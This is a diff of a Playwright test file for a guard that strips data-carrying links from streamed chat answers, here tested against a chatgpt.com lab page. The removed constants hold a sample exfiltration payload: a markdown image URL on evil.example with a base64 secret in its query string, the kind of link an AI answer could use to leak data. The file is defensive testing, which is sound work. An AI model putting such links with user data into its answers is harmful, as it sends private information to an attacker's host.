@@ -1,100 +1,21 @@
 /** Answers on their way to the page: what would carry data away is taken out, everything else is as it was. */
-import type { Page } from "@playwright/test";
-import type { ChatServer } from "../pages/chat/server";
 import { expect, test } from "../support/guard-harness";
+import {
+  BAD,
+  GONE,
+  SAFE,
+  TEXT,
+  answerClaims,
+  cut,
+  patch,
+  patches,
+  read,
+  said,
+  scriptText,
+} from "../support/answer-page";
+import { openLab } from "../support/lab-page";
 
-const LAB = "https://chatgpt.com/lab";
-const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words
-const BAD = `https://evil.example/p.png?d=${SECRET}`;
-const GONE = "removed by Sluice: evil.example";
-const TEXT = `Größe – see ![x](${BAD}) and [docs](https://docs.example/a).`;
-const SAFE = TEXT.replace(BAD, GONE);
-
-const patch = (v: string) => `event: delta\ndata: ${JSON.stringify({ v })}\n\n`;
-const patches = (text: string, size: number) =>
-  (text.match(new RegExp(`.{1,${size}}`, "gsu")) ?? []).map(patch).join("") + "data: [DONE]\n\n";
-
-test.beforeEach(async ({ page }) => {
-  await page.goto(LAB);
-  await page.locator("#ways button").first().waitFor();
-  await page.evaluate(() => {
-    window.target = "/backend-api/f/conversation";
-    window.bodyOf = (text) =>
-      JSON.stringify({
-        messages: [{ author: { role: "user" }, content: { content_type: "text", parts: [text] } }],
-      });
-  });
-});
-
-/** Bytes cut without any regard to lines or letters. */
-function cut(text: string, size: number): Uint8Array[] {
-  const bytes = new TextEncoder().encode(text);
-  return Array.from({ length: Math.ceil(bytes.length / size) }, (_, at) =>
-    bytes.slice(at * size, (at + 1) * size),
-  );
-}
-
-function read(
-  page: Page,
-  script: string,
-  how: "text" | "reader" | "byob" | "xhr",
-): Promise<string> {
-  return page.evaluate(
-    async ([name, way]) => {
-      const url = `${window.target}?script=${name}`;
-      const body = window.bodyOf("Good question");
-      if (way === "xhr")
-        return new Promise<string>((resolve) => {
-          const xhr = new XMLHttpRequest();
-          xhr.open("POST", url);
-          let last = "";
-          xhr.onprogress = () => {
-            if (!xhr.responseText.startsWith(last)) resolve(`went back at ${last.length}`);
-            last = xhr.responseText;
-          };
-          xhr.onload = () =>
-            resolve(xhr.responseText.startsWith(last) ? String(xhr.response) : "went back");
-          xhr.send(body);
-        });
-      const response = await fetch(url, { method: "POST", body });
-      if (way === "text" || !response.body) return response.text();
-      let text = "";
-      const decoder = new TextDecoder();
-      if (way === "byob") {
-        const reader = response.body.getReader({ mode: "byob" });
-        for (let view = new Uint8Array(16); ;) {
-          const { done, value } = await reader.read(view);
-          if (value) text += decoder.decode(value, { stream: true });
-          if (done || !value) return text;
-          view = new Uint8Array(value.buffer);
-        }
-      }
-      const reader = response.body.getReader();
-      for (;;) {
-        const { done, value } = await reader.read();
-        if (done) return text + decoder.decode();
-        text += decoder.decode(value, { stream: true });
-      }
-    },
-    [script, how] as const,
-  );
-}
-
-function answerClaims(page: Page): Promise<string[]> {
-  return page.evaluate(() =>
-    window.guardLog.claims.flatMap((claim) =>
-      claim.type === "answer" ? [`${claim.what} ${claim.host} ${claim.removed}`] : [],
-    ),
-  );
-}
-
-function said(stream: string): string {
-  return stream
-    .split("\n")
-    .filter((line) => line.startsWith("data: {"))
-    .map((line) => (JSON.parse(line.slice(6)) as { v: string }).v)
-    .join("");
-}
+test.beforeEach(({ page }) => openLab(page));
 
 for (const how of ["text", "reader", "byob", "xhr"] as const)
   test(`events cut anywhere, read by ${how}`, async ({ page, chat }) => {
@@ -351,8 +272,3 @@ test("policy's word: only told, left alone, and hosts it names", async ({ page, 
   expect(await read(page, "plain", "text")).toBe(`![x](${GONE}) `);
   expect(await answerClaims(page)).toHaveLength(2);
 });
-
-function scriptText(chat: ChatServer, text: string): Promise<void> {
-  chat.script("plain", { type: "text/plain", pieces: [text] });
-  return Promise.resolve();
-}
